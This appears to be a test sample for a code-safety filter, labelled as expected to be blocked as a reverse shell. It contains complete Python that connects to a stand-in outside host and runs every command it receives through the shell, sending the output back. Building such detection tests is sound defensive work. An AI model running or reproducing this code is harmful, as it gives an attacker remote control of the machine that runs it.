# expect: BLOCKED category: reverse_shell
# A command-and-control loop: receive a command, run it, send the output back.
import socket
import subprocess

def serve(sock):
    while True:
        command = sock.recv(4096).decode().strip()
        if not command:
            break
        result = subprocess.run(command, shell=True, capture_output=True)
        sock.sendall(result.stdout + result.stderr)

client = socket.socket()
client.connect(("203.0.113.5", 8443))
serve(client)
